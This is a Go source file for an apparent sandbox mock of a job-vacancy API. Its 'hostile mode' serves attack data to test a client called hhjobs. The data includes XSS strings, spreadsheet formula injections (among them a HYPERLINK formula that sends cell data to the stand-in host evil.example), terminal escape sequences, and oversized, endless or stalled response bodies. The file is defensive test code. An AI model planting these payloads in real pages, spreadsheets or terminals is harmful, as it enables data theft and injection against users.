package sandbox

import (
	"bytes"
	"encoding/json"
	"net/http"
	"sort"
	"strconv"
	"strings"
	"time"
)

// Hostile mode (Config.Hostile, `hhjobs sandbox --hostile`) serves the data
// a security review would push through hhjobs (docs/security.md): texts that
// attack a browser, a spreadsheet or a terminal in titles, employer names,
// area names and key skills; megabyte strings; and answers that attack the
// transport — a 200 MB description, an endless body, a stalled body, error
// bodies with terminal escapes. Everything else stays as in normal mode, so
// a test can check that every well-formed vacancy is still stored.
//
// What is served where (ids from Server.HostileIDs):
//   - Payload: titles, employer names, area names and key skills from
//     HostilePayloads (one payload per vacancy, cycling), plus one vacancy
//     with a 1 MB title and one with a 3 MB employer name; the largest
//     employers are renamed to the payloads, and every second vacancy in
//     Russia gets one of three attack skills, so they reach the report;
//   - Huge: GET /vacancies/{id} answers 200 with a 200 MB description;
//   - Endless: GET /vacancies/{id} answers 200 with a body that never ends;
//   - Stalled: GET /vacancies/{id} sends half its JSON, stalls for
//     Config.HostileStall (default 45 s, longer than a client's 30 s per
//     try), then the rest;
//   - ErrorBody: GET /vacancies/{id} answers 400 with escapes in its errors;
//   - GET /vacancies?text=hostile-endless: an endless search page;
//     text=hostile-huge: a 200 MB one;
//   - POST /token with client_secret=hostile-secret: 400 with escapes in
//     error and error_description.

// HostilePayloads are the attack texts of hostile mode.
var HostilePayloads = []string{
	`<script>window.pwned=1</script>Менеджер`,
	`"><img src=x onerror="window.pwned=1">HR`,
	`=1+1`,
	`=HYPERLINK("http://evil.example/leak?d="&I2&"-"&J2,"Apply")`,
	`+1+1`,
	`-1+1`,
	`@SUM(1+1)`,
	"\t=1+1",
	"\r=1+1",
	"\x1b]0;pwned\x07\x1b[2J\x1b[31mКрасный рекрутер",
	"\u009b31mC1 рекрутер",
	"ООО \u202eРога и копыта 1234\u202c",
	"Zero\u200bWidth\u200d\ufeffРекрутер",
}

// HostileIDs names the vacancies hostile mode changed.
type HostileIDs struct {
	Payload   []string // well-formed vacancies with attack texts: must be stored
	Huge      string   // full vacancy with a 200 MB description
	Endless   string   // full vacancy with an endless body
	Stalled   string   // full vacancy whose body stalls (then completes)
	ErrorBody string   // full vacancy answered 400 with escapes
}

// HostileTokenSecret is the client_secret the token endpoint answers with
// escapes in its error in hostile mode.
const HostileTokenSecret = "hostile-secret"

const (
	hostileHugeSize = 200 << 20
	hostileMarker   = "\x00hostile-description\x00"
)

type hostileState struct {
	stall time.Duration
	ids   HostileIDs
	kind  map[string]string // vacancy id → huge | endless | stalled | error
}

// HostileIDs returns what hostile mode changed (zero without it).
func (s *Server) HostileIDs() HostileIDs {
	if s.hostile == nil {
		return HostileIDs{}
	}
	return s.hostile.ids
}

// makeHostile rewrites a spread of searchable vacancies in Russia (area 113)
// as hostile; called by New when Config.Hostile is set.
func (s *Server) makeHostile() {
	h := &hostileState{stall: s.cfg.HostileStall, kind: map[string]string{}}
	if h.stall <= 0 {
		h.stall = 45 * time.Second
	}
	s.hostile = h
	var pick []*vacancy
	for _, v := range s.vacs {
		if !v.archived && !v.removed && inRussia(v.area) {
			pick = append(pick, v)
		}
	}
	want := 4 + len(HostilePayloads) + 2
	if len(pick) < want {
		return
	}
	step := len(pick) / want
	chosen := make([]*vacancy, want)
	for i := range chosen {
		chosen[i] = pick[i*step]
	}
	// Shared names, so that the attacks reach the report's tables and charts
	// too: the largest employers are renamed, and every second vacancy gets
	// one of three attack skills.
	count := map[*employer]int{}
	for _, v := range pick {
		if v.emp.id != "" {
			count[v.emp]++
		}
	}
	emps := make([]*employer, 0, len(count))
	for e := range count {
		emps = append(emps, e)
	}
	sort.Slice(emps, func(i, j int) bool {
		if count[emps[i]] != count[emps[j]] {
			return count[emps[i]] > count[emps[j]]
		}
		return emps[i].id < emps[j].id
	})
	for i, e := range emps[:min(len(emps), len(HostilePayloads))] {
		e.name = HostilePayloads[i]
	}
	for i, v := range pick {
		if i%2 == 0 {
			v.skills = append([]string{HostilePayloads[[]int{0, 3, 9}[i/2%3]]}, v.skills...)
		}
	}
	for i, k := range []string{"huge", "endless", "stalled", "error"} {
		h.kind[chosen[i].ids] = k
	}
	h.ids.Huge, h.ids.Endless, h.ids.Stalled, h.ids.ErrorBody = chosen[0].ids, chosen[1].ids, chosen[2].ids, chosen[3].ids
	for i, v := range chosen[4:] {
		p := ""
		switch {
		case i < len(HostilePayloads):
			p = HostilePayloads[i]
			v.name = p
		case i == len(HostilePayloads):
			v.name = strings.Repeat("Длинное название ", 1<<20/len("Длинное название "))
			p = HostilePayloads[i%len(HostilePayloads)]
		default:
			p = HostilePayloads[i%len(HostilePayloads)]
		}
		emp := *v.emp // a copy: the employer's other vacancies keep their name
		emp.id = strconv.Itoa(990000 + i)
		emp.name = p
		if i == len(HostilePayloads)+1 {
			emp.name = strings.Repeat("ООО Огромное имя ", 3<<20/len("ООО Огромное имя "))
		}
		v.emp = &emp
		area := *v.area // a copy keeps id and subtree interval, so search still matches
		area.Name = p
		v.area = &area
		v.skills = append([]string{p, HostilePayloads[(i+2)%len(HostilePayloads)]}, v.skills...)
		v.item.Store(nil)
		h.ids.Payload = append(h.ids.Payload, v.ids)
	}
}

func inRussia(a *areaNode) bool {
	for ; a != nil; a = a.parent {
		if a.ID == "113" {
			return true
		}
	}
	return false
}

// serveHostile answers the transport attacks; false = not one of them.
func (s *Server) serveHostile(w http.ResponseWriter, r *http.Request) bool {
	h := s.hostile
	path := r.URL.Path
	switch {
	case path == "/token" || path == "/oauth/token":
		if r.Method != http.MethodPost || r.ParseForm() != nil || r.PostForm.Get("client_secret") != HostileTokenSecret {
			return false
		}
		s.writeJSON(w, r, http.StatusBadRequest, map[string]string{
			"error":             "invalid_client\x1b[2J",
			"error_description": "\x1b]0;pwned\x07\x1b[31mclient blocked\x1b[0m\r\x1b[Kretry",
		})
		return true
	case path == "/vacancies":
		switch r.URL.Query().Get("text") {
		case "hostile-endless":
			s.streamBody(w, r, []byte(`{"items":[{"id":"1","name":"`), -1, nil)
		case "hostile-huge":
			s.streamBody(w, r, []byte(`{"items":[{"id":"1","name":"`), hostileHugeSize, []byte(`"}],"found":1,"pages":1,"page":0,"per_page":100}`))
		default:
			return false
		}
		return true
	case strings.HasPrefix(path, "/vacancies/"):
		id := path[len("/vacancies/"):]
		kind := h.kind[id]
		if kind == "" {
			return false
		}
		if kind == "error" {
			s.writeJSON(w, r, http.StatusBadRequest, errorsBody{Description: "\x1b]0;pwned\x07\x1b[2JBad Request",
				Errors: []apiError{{Type: "bad_argument\x1b[31m", Value: "\x1b[1;1H\x1b[2Jid"}}, RequestID: reqID(w)})
			return true
		}
		s.mu.RLock()
		v := s.byID[id]
		body := s.fullJSON(v)
		s.mu.RUnlock()
		body.Description = hostileMarker
		b, _ := marshalNoEscape(body)
		head, tail, _ := bytes.Cut(b, jsonString(hostileMarker))
		head = append(head, '"')
		tail = append([]byte{'"'}, tail...)
		switch kind {
		case "huge":
			s.streamBody(w, r, head, hostileHugeSize, tail)
		case "endless":
			s.streamBody(w, r, head, -1, nil)
		case "stalled":
			w.Header().Set("Content-Type", "application/json; charset=UTF-8")
			w.WriteHeader(http.StatusOK)
			_, _ = w.Write(head)
			_, _ = w.Write([]byte("<p>Описание, которое приходит с паузой.</p>"))
			if f, ok := w.(http.Flusher); ok {
				f.Flush()
			}
			t := time.NewTimer(h.stall)
			defer t.Stop()
			select {
			case <-t.C:
				_, _ = w.Write(tail)
			case <-r.Context().Done():
			}
		}
		return true
	}
	return false
}

func jsonString(s string) []byte {
	b, _ := json.Marshal(s)
	return b
}

// streamBody writes head, then n bytes of Cyrillic text (n < 0: until the
// client goes away), then tail, from one fixed buffer: the sandbox itself
// uses no memory for the attack.
func (s *Server) streamBody(w http.ResponseWriter, r *http.Request, head []byte, n int64, tail []byte) {
	w.Header().Set("Content-Type", "application/json; charset=UTF-8")
	w.WriteHeader(http.StatusOK)
	if _, err := w.Write(head); err != nil {
		return
	}
	chunk := hostileChunk
	for sent := int64(0); n < 0 || sent < n; sent += int64(len(chunk)) {
		if n >= 0 && n-sent < int64(len(chunk)) {
			chunk = chunk[:n-sent]
		}
		if _, err := w.Write(chunk); err != nil || r.Context().Err() != nil {
			return
		}
	}
	_, _ = w.Write(tail)
}

var hostileChunk = []byte(strings.Repeat("Ы", 32<<10)) // 64 KiB, even length: no rune is split
